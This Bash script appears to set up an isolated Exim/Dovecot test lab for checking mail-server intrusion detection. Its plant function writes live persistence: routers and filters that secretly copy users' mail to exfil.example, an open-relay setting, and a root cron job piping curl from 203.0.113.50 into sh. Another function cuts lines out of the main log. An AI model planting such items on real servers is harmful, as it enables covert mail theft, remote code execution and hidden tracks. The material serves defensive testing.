#!/usr/bin/env bash
# The Exim host itself: runs inside the Debian bookworm chroot, in its own network namespace
# (tests/live/exim/scenario.sh enters both and calls this script; docs/live-test.md, "The Exim
# run"). Every path here is the chroot's own.
#
#   inside.sh up OUT       configure Exim + Dovecot, start them, run the attack (attack.py --mta exim)
#   inside.sh stop OUT     stop the daemons up started, by the pids they wrote
#   inside.sh plant OUT    (called by attack.py) plant persistence in Exim's idiom, reload
#   inside.sh cut OUT FROM TO   (called by attack.py) cut [FROM, TO) out of the main log
#   inside.sh rotate OUT   (called by attack.py) rotate Exim's logs with Debian's logrotate rules
#
# Exim is Debian's exim4-daemon-heavy with Debian's split configuration, configtype
# 'internet', local domain lab.example, listening on 127.0.0.1 ports 25 and 587; SMTP AUTH
# (PLAIN, LOGIN) goes through Dovecot's auth socket. It writes its own logs under
# /var/log/exim4 (mainlog, rejectlog, paniclog), as on any Debian Exim host. Dovecot serves
# IMAP from the same users and logs through the chroot's own rsyslogd to /var/log/mail.log.
# The namespace has only a loopback interface: mail for outside domains goes to a sink on
# 127.0.99.1 (sink.py) standing in for the rest of the world, so nothing can leave.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
cmd=${1:?up, stop, plant, cut or rotate}
OUT=${2:?output folder}
mkdir -p "$OUT"
DOMAIN=lab.example
SINK_IP=127.0.99.1
# RECEIVERS only receive mail (attack.py's RECEIVERS).
RECEIVERS=(kate liam nora)
USERS=(alice bob carol dave erin frank grace "${RECEIVERS[@]}")
# The outside network the intruder adds to Exim's relay networks (TEST-NET-3), and the host
# of it that then relays through the server (attack.py's RELAY_NET_IP).
RELAY_NET=198.51.100.0/24

LAB=exim
# shellcheck source=../lab-inside.sh
. "$here/lab-inside.sh"

# Sets KEY='VALUE' in Debian's update-exim4.conf.conf.
dc() {
  sed -i "s|^$1=.*|$1='$2'|" /etc/exim4/update-exim4.conf.conf
  grep -q "^$1='$2'\$" /etc/exim4/update-exim4.conf.conf
}

up() {
  # 1. The host's names: a short host name (the namespace's own), its FQDN in /etc/hosts.
  # 2. Users, with their passwords in Dovecot's password file.
  host_and_users

  # 3. Exim: Debian's split configuration, as `dpkg-reconfigure exim4-config` leaves it for
  #    "internet site; mail is sent and received directly using SMTP".
  dc dc_eximconfig_configtype internet
  dc dc_other_hostnames "$DOMAIN"
  dc dc_local_interfaces '127.0.0.1.25 ; 127.0.0.1.587'
  dc dc_minimaldns true
  dc dc_relay_nets ''
  dc dc_use_split_config true
  dc dc_localdelivery mail_spool
  # Local macros (Debian's place for them in the split configuration). The log selector is
  # Debian's default (+smtp_protocol_error +smtp_syntax_error +tls_certificate_verified
  # +tls_peerdn) plus what an admin who reads the logs adds: every connection and its end,
  # sessions that never sent MAIL (the line scanners and probers leave), transactions broken off, and the local interface and remote port of each session (which
  # tells port 25 from 587).
  cat > /etc/exim4/conf.d/main/000_localmacros <<'EOF'
MAIN_LOG_SELECTOR = +smtp_protocol_error +smtp_syntax_error +tls_certificate_verified +tls_peerdn +smtp_connection +smtp_no_mail +smtp_incomplete_transaction +incoming_interface +incoming_port
EOF
  # SMTP AUTH through Dovecot's auth socket: Debian's own example
  # (conf.d/auth/30_exim4-config_examples), for PLAIN and LOGIN. No TLS in this lab, so
  # the mechanisms are offered in clear (as the Postfix run does).
  cat > /etc/exim4/conf.d/auth/20_exim4-config_dovecot <<'EOF'
### auth/20_exim4-config_dovecot
#################################
# SMTP AUTH through Dovecot (see the example in 30_exim4-config_examples).

dovecot_plain_server:
  driver = dovecot
  public_name = PLAIN
  server_socket = /var/spool/exim4/dovecot.auth-client
  server_set_id = $auth1

dovecot_login_server:
  driver = dovecot
  public_name = LOGIN
  server_socket = /var/spool/exim4/dovecot.auth-client
  server_set_id = $auth1
EOF
  # This lab has no Internet: outside domains go to the sink standing in for it (before
  # Debian's dnslookup router, which would find no DNS here).
  cat > /etc/exim4/conf.d/router/190_exim4-config_lab_internet <<EOF
### router/190_exim4-config_lab_internet
#################################
# The lab has no DNS and no Internet: every outside domain is handed to $SINK_IP,
# which stands in for the rest of the world.

lab_internet:
  debug_print = "R: lab_internet for \$local_part@\$domain"
  driver = manualroute
  domains = ! +local_domains
  transport = remote_smtp
  route_list = * $SINK_IP
  no_more
EOF
  # Debian's daemon options: a combined listener and queue runner. The queue interval is a
  # minute instead of Debian's 30m: Exim queues a connection's messages after the tenth
  # (smtp_accept_queue_per_connection), and they must be delivered within the run.
  sed -i "s|^QUEUEINTERVAL=.*|QUEUEINTERVAL='1m'|" /etc/default/exim4
  update-exim4.conf
  exim4 -bV >/dev/null

  # 4. Dovecot: IMAP on loopback, users from a password file, the auth socket for Exim (as
  #    Debian's Exim example sets it up), mbox in /var/mail as Exim's mail_spool writes it.
  dovecot_conf Exim <<'EOF'
service auth {
  unix_listener /var/spool/exim4/dovecot.auth-client {
    mode = 0660
    group = Debian-exim
  }
}
EOF

  # 5. rsyslog with Debian's configuration, but without the kernel log (start_rsyslog).

  # 6. Start: the sink, rsyslogd, Dovecot, Exim (no init system: by hand, as the init
  #    scripts would). Daemons get no inherited stdio.
  rm -rf /var/log/exim4/* /var/log/mail.log /var/log/syslog
  python3 "$here/sink.py" "$SINK_IP" 25 </dev/null >/dev/null 2>&1 &
  echo $! > /run/mailir-sink.pid
  start_rsyslog
  dovecot </dev/null >/dev/null 2>&1
  install -d -o Debian-exim -g Debian-exim -m 750 /run/exim4
  # shellcheck disable=SC1091
  . /etc/default/exim4
  /usr/sbin/exim4 -bd "-q$QUEUEINTERVAL" </dev/null >/dev/null 2>&1
  wait_port "$SINK_IP" 25
  wait_port 127.0.0.1 25
  wait_port 127.0.0.1 587
  wait_port 127.0.0.1 143
  { echo "exim $(exim4 -bV | sed -n '1s/^Exim version \([^ ]*\).*/\1/p') ($(dpkg-query -W -f '${Package} ${Version}' exim4-daemon-heavy))"
    common_versions
  } > "$OUT/versions.txt"
  exim4 -bP log_selector > "$OUT/log_selector.txt"

  # 7. The attack, the persistence, the cut and the rotations (attack.py drives it all,
  #    calling back into this script for the root-side steps).
  python3 "$here/attack.py" --mta exim --out "$OUT" --scenario "$0"
}

stop() {
  local f pid
  for f in /run/exim4/exim.pid /run/dovecot/master.pid /run/mailir-sink.pid /run/rsyslogd.pid; do
    pid=$(pid_of "$f") || continue
    kill "$pid" 2>/dev/null || true
  done
}

# The intruder's persistence, Exim's way. Prints the planted items (file, 1-based line, the
# rule that should cite it) as JSON for truth.json.
plant() {
  local f line
  # A redirect router that copies frank's mail outside and lets it go on (`unseen`), named
  # like Debian's own files, between the real_local and system_aliases routers.
  f=/etc/exim4/conf.d/router/350_exim4-config_archive
  cat > "$f" <<'EOF'
### router/350_exim4-config_archive
#################################
# keep a copy of the mail of some users for the archive

mail_archive:
  debug_print = "R: mail_archive for $local_part@$domain"
  driver = redirect
  domains = +local_domains
  local_parts = frank
  data = frank.copy@exfil.example
  unseen
EOF
  local router_line; router_line=$(grep -n '^  data = ' "$f" | cut -d: -f1)
  # grace's ~/.forward holds an Exim filter that copies her mail outside.
  printf '# Exim filter\nunseen deliver grace.archive@exfil.example\n' > /home/grace/.forward
  chown grace: /home/grace/.forward
  chmod 644 /home/grace/.forward
  # The relay networks widened to an outside /24 (Debian's dc_relay_nets, which
  # update-exim4.conf turns into MAIN_RELAY_NETS, that is relay_from_hosts).
  dc dc_relay_nets "$RELAY_NET"
  local relay_line; relay_line=$(grep -n '^dc_relay_nets=' /etc/exim4/update-exim4.conf.conf | cut -d: -f1)
  # A system filter that copies erin's mail outside, switched on at the end of the main
  # options.
  cat > /etc/exim4/system.filter <<'EOF'
# Exim filter
if $recipients contains "erin@lab.example" then
  unseen deliver audit@exfil.example
endif
EOF
  local filter_line; filter_line=$(grep -n 'unseen deliver' /etc/exim4/system.filter | cut -d: -f1)
  f=/etc/exim4/conf.d/main/02_exim4-config_options
  printf '\nsystem_filter = /etc/exim4/system.filter\n' >> "$f"
  local setting_line; setting_line=$(grep -n '^system_filter = ' "$f" | cut -d: -f1)
  # A cron job that fetches and runs a script.
  mkdir -p /etc/cron.d
  printf 'SHELL=/bin/sh\n*/10 * * * * root curl -s http://203.0.113.50/s.sh | sh\n' > /etc/cron.d/exim4-sync
  # Debian's way to apply it: regenerate, then have the daemon re-read it (invoke-rc.d
  # exim4 reload sends the same SIGHUP).
  update-exim4.conf
  kill -HUP "$(pid_of /run/exim4/exim.pid)"
  cat <<EOF
[{"path": "/etc/exim4/conf.d/router/350_exim4-config_archive", "line": $router_line, "rule": "persistence.forward", "what": "redirect router, unseen copy of frank's mail"},
 {"path": "/home/grace/.forward", "line": 2, "rule": "persistence.forward", "what": "Exim filter in grace's .forward, unseen deliver"},
 {"path": "/etc/exim4/update-exim4.conf.conf", "line": $relay_line, "rule": "config.open_relay", "what": "relay networks widened to $RELAY_NET"},
 {"path": "/etc/exim4/system.filter", "line": $filter_line, "rule": "persistence.bcc", "what": "system filter, unseen deliver of erin's mail",
  "setting": {"path": "/etc/exim4/conf.d/main/02_exim4-config_options", "line": $setting_line}},
 {"path": "/etc/cron.d/exim4-sync", "line": 2, "rule": "persistence.cron", "what": "cron job piping curl into sh"}]
EOF
}

# Removes the lines of Exim's main log whose time falls in [FROM, TO) (`YYYY-MM-DD HH:MM:SS`
# prefixes, the log's own local time) the way an intruder edits a log: a new file with the
# same owner and mode moved over it. Exim notices the new file and writes on into it.
cut_slice() {
  cut_log /var/log/exim4/mainlog "$1" "$2"
}

# Debian's rotation of Exim's logs: logrotate with exim4-base's own rules (daily, rotate 10,
# compress, delaycompress, nocreate: mainlog → mainlog.1, mainlog.1 → mainlog.2.gz), forced.
rotate() {
  logrotate -f /etc/logrotate.d/exim4-base
}

case $cmd in
  up) up ;;
  stop) stop ;;
  plant) plant ;;
  cut) cut_slice "$3" "$4" ;;
  rotate) rotate ;;
  *) echo "unknown command $cmd" >&2; exit 2 ;;
esac
